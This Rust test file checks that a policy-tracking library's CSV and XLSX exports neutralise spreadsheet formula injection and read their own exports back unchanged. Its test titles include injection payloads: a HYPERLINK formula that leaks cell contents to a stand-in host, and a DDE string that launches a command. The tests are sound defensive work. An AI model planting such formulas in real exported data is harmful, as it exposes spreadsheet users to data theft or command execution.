//! CSV injection: text that a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, tab,
//! carriage return first) is neutralised by every spreadsheet export, numbers stay numbers,
//! and the matrix reads its own exports back to the original text.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use lineamientos::pivot::{Column, Columns};
use lineamientos::{
    Catalog, Dim, Entry, EntryType, FocalDirectory, ImportOptions, Lang, Matrix, Measure,
    Participants, PivotSpec, Privacy, Status,
};
use std::io::{Cursor, Read};

/// Titles as partners could type them, or as an attacker would.
const TITLES: [&str; 10] = [
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Ver\")",
    "+52 55 1234 5678",
    "-5 mujeres atendidas",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "'=ya con apóstrofo",
    "''-dos apóstrofos",
    "'solo un apóstrofo",
    "Ruta de atención",
    "a=b+c",
];

fn entry(i: usize, title: &str) -> Entry {
    Entry {
        id: format!("e{i}"),
        country: "MEX".into(),
        institution: if i % 2 == 0 {
            "=1+1 Instituto".into()
        } else {
            "INMUJERES".into()
        },
        reported_on: "2024-05-02".parse().unwrap(),
        entry_type: EntryType::Event,
        title: title.into(),
        description: Some(format!("@{title}")),
        axis: Some("VCM".into()),
        guidelines: vec![],
        activity: None,
        stages: vec![],
        status: Status::Ongoing,
        progress: Some(45.0),
        start: None,
        end: None,
        participants: Participants {
            women: Some(12),
            ..Participants::default()
        },
        evidence_url: None,
        replicable: None,
        approved: true,
    }
}

fn matrix() -> Matrix {
    let entries = TITLES
        .iter()
        .enumerate()
        .map(|(i, t)| entry(i, t))
        .collect();
    let (m, r) = Matrix::from_entries(entries, &Catalog::embedded()).unwrap();
    assert_eq!(r.rejected, 0, "{:?}", r.diagnostics);
    m
}

/// Whether a spreadsheet would run the cell.
fn runs(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

fn cells(csv: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

fn xlsx_part(xlsx: &[u8], part: &str) -> String {
    let mut zip = zip::ZipArchive::new(Cursor::new(xlsx)).unwrap();
    let mut s = String::new();
    zip.by_name(part).unwrap().read_to_string(&mut s).unwrap();
    s
}

#[test]
fn matrix_csv_neutralises_formulas_and_reads_back_to_the_same_entries() {
    let cat = Catalog::embedded();
    let m = matrix();
    for lang in [Lang::Es, Lang::En] {
        let mut csv = Vec::new();
        m.write_csv(&mut csv, lang).unwrap();
        let rows = cells(&csv);
        for row in &rows {
            for cell in row {
                assert!(!runs(cell), "{lang:?}: {cell:?} would run as a formula");
            }
        }
        // The written form of each title: one apostrophe more when formula-like.
        let titles: Vec<&str> = rows[1..].iter().map(|r| r[5].as_str()).collect();
        assert_eq!(
            titles,
            [
                "'=HYPERLINK(\"http://example.invalid/?\"&A1,\"Ver\")",
                "'+52 55 1234 5678",
                "'-5 mujeres atendidas",
                "'@SUM(A1:A9)",
                "'=cmd|' /C calc'!A0",
                "''=ya con apóstrofo",
                "'''-dos apóstrofos",
                "'solo un apóstrofo",
                "Ruta de atención",
                "a=b+c",
            ]
        );
        let (back, r) = Matrix::read_csv(csv.as_slice(), &cat, &ImportOptions::default()).unwrap();
        assert_eq!(r.rejected, 0, "{:?}", r.diagnostics);
        let back: Vec<Entry> = back.entries().collect();
        assert_eq!(back, m.entries().collect::<Vec<_>>(), "{lang:?}");
        assert_eq!(back[0].title, TITLES[0]);
        assert_eq!(back[5].title, "'=ya con apóstrofo");
    }
}

#[test]
fn matrix_xlsx_writes_text_cells_with_the_quote_prefix_and_reads_back() {
    let cat = Catalog::embedded();
    let m = matrix();
    let mut xlsx = Vec::new();
    m.write_xlsx(&mut xlsx, Lang::Es).unwrap();
    let sheet = xlsx_part(&xlsx, "xl/worksheets/sheet1.xml");
    assert!(
        !sheet.contains("<f>") && !sheet.contains("<f "),
        "a formula cell"
    );
    // The text is stored unchanged (no apostrophe in the data) ...
    let strings = xlsx_part(&xlsx, "xl/sharedStrings.xml");
    assert!(strings.contains("<t>+52 55 1234 5678</t>"), "{strings}");
    assert!(strings.contains("<t>'=ya con apóstrofo</t>"), "{strings}");
    // ... with Excel's quote prefix on the cells that start like a formula.
    let styles = xlsx_part(&xlsx, "xl/styles.xml");
    assert!(styles.contains("quotePrefix=\"1\""), "{styles}");
    let (back, r) = Matrix::read_xlsx(Cursor::new(xlsx), &cat, &ImportOptions::default()).unwrap();
    assert_eq!(r.rejected, 0, "{:?}", r.diagnostics);
    assert_eq!(
        back.entries().collect::<Vec<_>>(),
        m.entries().collect::<Vec<_>>()
    );
}

#[test]
fn pivot_exports_neutralise_labels_and_keep_numbers() {
    let m = matrix();
    let spec = PivotSpec::new()
        .rows([Dim::Institution])
        .measure(Measure::ParticipantsWomen);
    let t = m.pivot(&spec).unwrap();
    let mut csv = Vec::new();
    t.write_csv(&mut csv, Lang::Es).unwrap();
    let rows = cells(&csv);
    assert!(rows.iter().flatten().all(|c| !runs(c)), "{rows:?}");
    assert!(
        rows.iter()
            .any(|r| r[0] == "'=1+1 Instituto" && r[1] == "60"),
        "{rows:?}"
    );
    let mut xlsx = Vec::new();
    t.write_xlsx(&mut xlsx, Lang::Es).unwrap();
    let sheet = xlsx_part(&xlsx, "xl/worksheets/sheet1.xml");
    assert!(!sheet.contains("<f>"));
    assert!(xlsx_part(&xlsx, "xl/styles.xml").contains("quotePrefix=\"1\""));

    // Typed columns (review tables, findings): text neutralised, numbers as numbers.
    let c = Columns {
        names: vec!["title".into(), "value".into(), "codes".into()],
        columns: vec![
            Column::Str(vec![Some("-5 mujeres".into()), Some("ok".into())]),
            Column::F64(vec![Some(-5.0), Some(2.5)]),
            Column::StrList(vec![vec!["=A1".into(), "B".into()], vec![]]),
        ],
    };
    let mut csv = Vec::new();
    c.write_csv(&mut csv).unwrap();
    assert_eq!(
        String::from_utf8(csv).unwrap(),
        "title,value,codes\n'-5 mujeres,-5,'=A1;B\nok,2.5,\n"
    );
}

#[test]
fn the_focal_point_csv_is_neutralised_too() {
    let cat = Catalog::embedded();
    let (dir, _) = FocalDirectory::from_json(
        r#"[{"country": "HND", "institution": "SEMUJER", "role": "=1+1", "name": "+504 Ana",
             "email": "@ana"}]"#,
        &cat,
    )
    .unwrap();
    for privacy in [Privacy::Redacted, Privacy::IncludePersonalData] {
        let mut csv = Vec::new();
        dir.write_csv(&mut csv, Lang::En, privacy).unwrap();
        let rows = cells(&csv);
        assert!(rows.iter().flatten().all(|c| !runs(c)), "{rows:?}");
        assert_eq!(rows[1][2], "'=1+1");
    }
}
